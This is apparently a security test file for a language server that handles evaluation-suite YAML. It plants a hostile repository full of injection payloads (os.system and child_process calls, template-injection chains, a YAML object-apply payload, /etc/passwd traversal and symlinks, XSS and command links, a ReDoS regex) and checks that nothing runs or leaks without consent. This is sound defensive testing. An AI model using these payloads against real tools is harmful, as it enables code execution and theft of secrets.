"""A hostile repository: opening it does nothing, and what a run starts, reads and sends is named in the question before it.

An audit hook in the server writes down every program, connection, file written and variable read. Then suites run, one for
each way to start or send something: first nobody allows it, then somebody does.
"""

import json
import re
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from client import VSCODE, Client
from everywhere import WHOLE
from running import written

from .servers import Serving, serving
from .tally import Setting, Tally

__all__ = ["run"]

SECRET = "a-secret-value"
_TOUCH = "import os\nos.system('touch PWNED')\ndef get_assert(*a): return True\ndef get_transform(*a): return 'hello'\ndef call_api(*a): return {'output': 'hello'}\ndef get_var(*a): return {'output': 'x'}\ndef prompt(*a): return 'x'\ndef before(*a): return None\nprint('[]')\n"
_JAVASCRIPT = "require('child_process').execSync('touch PWNED')"
_PYTHON = "__import__('os').system('touch PWNED')"
_OPENED = """\
# rubric: dialect=agentv-5
name: hostile
extensions: ["file://hook.py:before", "file://hook.js"]
nunjucks_filters: {evil: ./hook.js}
prompts: ["file://hook.py:prompt", "exec:touch PWNED", "file://../../../../../../etc/passwd", "{{ ''.__class__.__mro__ }}{% for i in range(99999) %}{{ i }}{% endfor %}", "https://127.0.0.1:9/prompt"]
providers: ["exec:touch PWNED", "file://hook.py"]
default_test: file://hook.py
workspace: {hooks: {before_all: {command: touch PWNED}}, repos: [{source: "https://127.0.0.1:9/x.git"}]}
tests:
  - id: "<img src=x onerror=alert(1)> [x](command:workbench.action.terminal.new) \\x1b[31m"
    vars: {n: "{{ env.SECRET }}", f: file://hook.py}
    input: "{{ n | evil }} ${{ SECRET }} {{ ''.__class__ }} {{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}"
    criteria: x
    assert:
      - {type: code-grader, command: [touch, PWNED]}
      - {type: javascript, value: "require('child_process').execSync('touch PWNED')"}
      - {type: python, value: "file://hook.py"}
      - {type: webhook, value: "http://127.0.0.1:9/hook"}
      - {type: llm-grader, prompt: {command: [touch, PWNED]}}
      - {type: mine, value: 1}
      - {type: regex, value: "(a+)+$"}
      - {type: is-json, value: {$ref: "http://127.0.0.1:9/schema.json"}}
      - {type: contains, value: !!python/object/apply:os.system ["touch PWNED"]}
"""
_HEAD = "# rubric: dialect=agentv-5\nname: x\nproviders: [%s]\nprompts: [%s]\n"
_CASE = "tests:\n  - id: a\n    vars: {q: hi}\n    assert:\n"
_OK = "      - {type: contains, value: hello}\n"


def _head(provider: str = "mocked", prompt: str = "'{{ q }}'") -> str:
    return _HEAD % (provider, prompt)


def _vectors(url: str) -> dict[str, str]:
    """Suites that start, read or send something, each in another way."""
    keyed = f'{{id: openai, label: z, config: {{base_url: "{url}", api_key: "${{{{ SECRET }}}}", model: x}}}}'
    return {
        "javascript": _head() + _CASE + f'      - {{type: javascript, value: "{_JAVASCRIPT}"}}\n', "python": _head() + _CASE + f'      - {{type: python, value: "{_PYTHON}"}}\n',
        "python of several lines": _head() + _CASE + f"      - type: python\n        value: |\n          import math\n          {_PYTHON}\n          return True\n",
        "python file": _head() + _CASE + '      - {type: python, value: "file://hook.py"}\n', "assert-set": _head() + _CASE + f'      - type: assert-set\n        assert: [{{type: javascript, value: "{_JAVASCRIPT}"}}]\n',
        "default test": _head() + f'default_test: {{assert: [{{type: javascript, value: "{_JAVASCRIPT}"}}]}}\n' + _CASE + _OK, "extension": _head() + 'extensions: ["file://hook.py:before"]\n' + _CASE + _OK,
        "cases by a program": _head() + "tests: file://cases.py\n", "prompt function": _head(prompt='"file://hook.py:prompt"') + _CASE + _OK, "prompt program": _head(prompt='"exec:touch PWNED"') + _CASE + _OK,
        "variable by a program": _head() + 'tests:\n  - id: a\n    vars: {q: "file://hook.py"}\n    assert:\n' + _OK, "transform": _head() + _CASE + f'      - {{type: contains, value: x, transform: "{_JAVASCRIPT}"}}\n',
        "transform file": _head() + 'tests:\n  - id: a\n    vars: {q: hi}\n    options: {transform: "file://hook.py"}\n    assert:\n' + _OK, "filter": _head(prompt="'{{ q | evil }}'") + "nunjucks_filters: {evil: ./hook.js}\n" + _CASE + _OK,
        "provider program": _head("'exec:touch PWNED'") + _CASE + _OK, "provider file": _head("'file://hook.py'") + _CASE + _OK, "environment hooks": _head() + "environment: {hooks: {before_all: {command: [touch, PWNED]}}}\n" + _CASE + _OK,
        "own type": _head() + _CASE + "      - {type: mine, value: 1}\n", "script": _head() + _CASE + "      - {type: script, command: [touch, PWNED]}\n", "derived metric": _head() + f'derived_metrics: [{{name: z, value: "{_JAVASCRIPT}"}}]\n' + _CASE + _OK,
        "hidden command": _head() + _CASE + '      - {type: code-grader, command: ["touch", "PWNED", "` [ok](command:x) \\u202e \\e[31m\\n\\n# Not executed"]}\n',
        "provider with a key": _head(keyed) + _CASE + _OK, "webhook": _head() + _CASE + f'      - {{type: webhook, value: "{url}/hook"}}\n', "webhook, secret in a variable": _head() + 'tests:\n  - id: a\n    vars: {q: "{{ env.SECRET }}"}\n    assert:\n' + f'      - {{type: webhook, value: "{url}/hook"}}\n',
        "secret in a prompt": _head("hosted", "'{{ env.SECRET }}'") + _CASE + _OK, "secret in a variable": _head("hosted") + 'tests:\n  - id: a\n    vars: {q: "${{ SECRET }}"}\n    assert:\n' + _OK,
        "file outside as a variable": _head("hosted") + "tests:\n  - id: a\n    vars: {q: file:///etc/passwd}\n    assert:\n" + _OK, "file outside as a prompt": _head("hosted", "file:///etc/passwd") + _CASE + _OK, "link to a file outside": _head("hosted", "file://link.txt") + _CASE + _OK,
        "include": _head("hosted", "\"{% include '/etc/passwd' %}\"") + _CASE + _OK, "schema elsewhere": _head() + _CASE + f'      - {{type: is-json, value: {{$ref: "{url}/schema.json"}}}}\n', "output elsewhere": _head() + "output_path: ../outside.json\n" + _CASE + _OK,
        "old hook": "# rubric: dialect=agentv-3\nname: x\nworkspace: {hooks: {before_all: {command: [touch, PWNED]}}}\ntests:\n  - id: a\n    input: hi\n    criteria: x\n    assertions: [{type: contains, value: x}]\n",
        "old grader": "# rubric: dialect=agentv-3\nname: x\ntests:\n  - id: a\n    input: hi\n    criteria: x\n    assertions: [{type: code-grader, command: [touch, PWNED]}]\n",
        "old target": "# rubric: dialect=agentv-3\nname: x\nexecution: {target: evil}\ntests:\n  - id: a\n    input: hi\n    criteria: x\n    assertions: [{type: contains, value: x}]\n",
    }  # fmt: skip


#: A link or an image in Markdown that nothing keeps from being one.
_RENDERED = re.compile(r"(?<!\\)(?:\]\(command|<img)")
#: What names what was started, in a question.
_NAMED = re.compile(r"touch PWNED|hook\.(py|js)|cases\.py|mine\.py|touch, PWNED")


def run(setting: Setting, tally: Tally) -> None:
    """Open, refuse, allow."""
    root, log = _repository(setting.folder), setting.folder / "log"
    with serving() as sink:
        sink.server.replies = ["hello"]
        (root / ".agentv/providers.yaml").write_text(
            f'providers:\n  - {{id: mock, label: mocked, config: {{response: hello}}}}\n  - {{id: openai, label: hosted, config: {{base_url: "{sink.server.url}", api_key: aaaaaaaa, model: x}}}}\n'
        )
        client = Client(
            cwd=root, state=setting.folder / "state",
            variables={"PYTHONSAFEPATH": "1", "PYTHONPATH": str(setting.folder / "hook"), "CHAOS_LOG": str(log), "SECRET": SECRET, "HOME": str(setting.folder / "home")},
        )  # fmt: skip
        try:
            client.initialize(VSCODE, root)
            _opened(client, root, log, tally, setting)
            for number, (name, suite) in enumerate(setting.some(_vectors(sink.server.url), 3).items()):
                folder = "old/" if name.startswith("old") else ""
                _one(client, root, log, tally, sink, name, f"{folder}v{number}.eval.yaml", suite)
            # Whoever hears nothing finds nothing.
            tally.expect(
                not tally.counts["programs started"] or "subprocess.Popen" in log.read_text("utf-8", "replace"),
                "the audit hook hears nothing",
            )
        except AssertionError as error:
            tally.fault(f"the server: {str(error)[-500:]}")
        finally:
            client.close()


def _repository(folder: Path) -> Path:
    files = dict.fromkeys(
        ("hook.py", "cases.py", ".agentv/assertions/mine.py", "sitecustomize.py", "conftest.py", "jinja2.py", "yaml.py", "rubric_core.py"), _TOUCH
    )  # fmt: skip
    root = written(
        folder / "repository",
        {**files, "a.eval.yaml": _OPENED, ".git/HEAD": "", "hook.js": f"{_JAVASCRIPT}; module.exports = (x) => 'x'\n"},
    )
    written(root, {
        "old/.agentv/targets.yaml": "targets: [{name: default, provider: mock, response: hello}, {name: evil, provider: cli, command: touch PWNED, healthcheck: {command: touch PWNED}}]\n",
        ".rubric.toml": "trusted = true\n", "pyproject.toml": '[tool.rubric]\ntrusted = true\nplugins = ["hook"]\n', ".vscode/settings.json": '{"rubric.trusted": true, "rubric.server.command": ["touch", "PWNED"]}',
    })  # fmt: skip
    (root / "link.txt").symlink_to("/etc/passwd")
    (folder / "hook").mkdir()
    (folder / "home").mkdir()
    shutil.copy(Path(__file__).with_name("audit.py"), folder / "hook/sitecustomize.py")
    return root


def _lines(log: Path) -> list[str]:
    return log.read_text(encoding="utf-8", errors="replace").splitlines()


def _opened(client: Client, root: Path, log: Path, tally: Tally, setting: Setting) -> None:
    """Open and ask everything at many places: nothing is started, sent, written or read of the environment."""
    client.answer(client.start("workspace/symbol", {"query": ""}))
    before = len(_lines(log))
    uri = (root / "a.eval.yaml").as_uri()
    client.open(uri, _OPENED)
    for method in WHOLE:
        client.answer(client.start(f"textDocument/{method}", {"textDocument": {"uri": uri}}))
    for number, line in list(enumerate(_OPENED.splitlines()))[:: setting.of(5, 1)]:
        for column in {0, len(line) // 2, len(line), max(0, line.find(":") + 2)}:
            place = {"textDocument": {"uri": uri}, "position": {"line": number, "character": column}}
            for method in ("hover", "completion", "definition"):
                answer = json.dumps(client.answer(client.start(f"textDocument/{method}", place)))
                tally.count("requests")
                tally.expect(SECRET not in answer, f"{method} tells a secret at {number}:{column}")
                rendered = (
                    _RENDERED.search(json.loads(answer)["result"]["contents"]["value"])
                    if method == "hover" and "contents" in answer
                    else None
                )
                tally.expect(rendered is None, f"hover renders a name at {number}:{column}", answer=answer)
    whole = {"start": {"line": 0, "character": 0}, "end": {"line": 99, "character": 0}}
    client.answer(
        client.start(
            "textDocument/codeAction", {"textDocument": {"uri": uri}, "range": whole, "context": {"diagnostics": []}}
        )
    )
    client.answer(client.start("rubric/discoverTests", {}))
    time.sleep(1)
    did = _lines(log)[before:]
    tally.expect(not did, f"opening does {did[:5]}", log=did)
    tally.expect(not list(root.rglob("PWNED")), "opening runs a program")


def _one(client: Client, root: Path, log: Path, tally: Tally, sink: Serving, name: str, file: str, suite: str) -> None:
    tally.count("suites run")
    path = root / file
    path.write_text(suite, encoding="utf-8")
    client.open(path.as_uri(), suite)
    for allowed in (False, True):
        for each in root.rglob("PWNED"):
            each.unlink()
        before, sent = len(_lines(log)), len(sink.server.bodies)
        asked = _ran(client, path.as_uri(), allowed=allowed)
        did = [line for line in _lines(log)[before:] if _acts(line)]
        ran, received = (
            bool(list(root.rglob("PWNED"))),
            json.dumps([sink.server.bodies[sent:], sink.server.headers[sent:], sink.server.paths[sent:]]),
        )
        if not allowed:
            tally.expect(not ran and len(sink.server.bodies) == sent, f"{name}: runs although nobody allows it")
            tally.expect(asked or not did, f"{name}: does {did[:2]} without a question")
            continue
        tally.count("programs started", ran)
        tally.count("requests sent", len(sink.server.bodies) - sent)
        tally.expect(
            not ran or _NAMED.search(asked),
            f"{name}: starts a program that the question does not name: {asked[:300]!r}",
        )
        tally.expect(
            len(sink.server.bodies) == sent or sink.server.url.rpartition("/")[0] in asked,
            f"{name}: sends what the question does not name: {asked[:300]!r}",
        )
        tally.expect(
            SECRET not in received or "SECRET" in asked,
            f"{name}: sends a secret that the question does not name: {asked[:300]!r}",
        )
        tally.expect(
            "root:x:0" not in received or "/etc/passwd" in asked,
            f"{name}: sends a file that the question does not name: {asked[:300]!r}",
        )
    kept = "".join(
        p.read_text(encoding="utf-8", errors="replace") for p in (root / ".rubric").rglob("*") if p.is_file()
    )
    tally.expect(SECRET not in kept, f"{name}: keeps a secret")
    tally.expect(not (root.parent / "outside.json").exists() or "outside.json" in asked, f"{name}: writes outside")
    (root.parent / "outside.json").unlink(missing_ok=True)


def _acts(line: str) -> bool:
    """Whether what was heard is a program, a connection or a secret; the sandbox is ours, and gets no environment."""
    return (
        line.startswith(("subprocess", "os.system", "os.posix_spawn", "os.exec", "socket.connect", "variable SECRET"))
        and "sandbox/worker" not in line
    )


def _ran(client: Client, uri: str, *, allowed: bool) -> str:
    """Run a suite, and give the question, if there was one."""
    questions: list[str] = []

    def answer(params: Any) -> Any:
        questions.append(params["message"])
        return next((each for each in params["actions"] if each["title"] == "Run once"), None) if allowed else None

    client.replies["window/showMessageRequest"] = answer
    client.replies["window/showDocument"] = lambda _: {"success": True}
    ends = len(list(_ends(client)))
    client.answer(client.start("workspace/executeCommand", {"command": "rubric.runFile", "arguments": [uri]}))
    end = time.monotonic() + (40 if allowed else 2)
    while time.monotonic() < end and len(list(_ends(client))) == ends:
        time.sleep(0.05)
    client.answer(client.start("workspace/symbol", {"query": ""}))
    return " ".join(questions)


def _ends(client: Client) -> Iterator[Any]:
    return (p for p in client.heard("$/progress") if isinstance(p["value"], dict) and p["value"].get("kind") == "end")
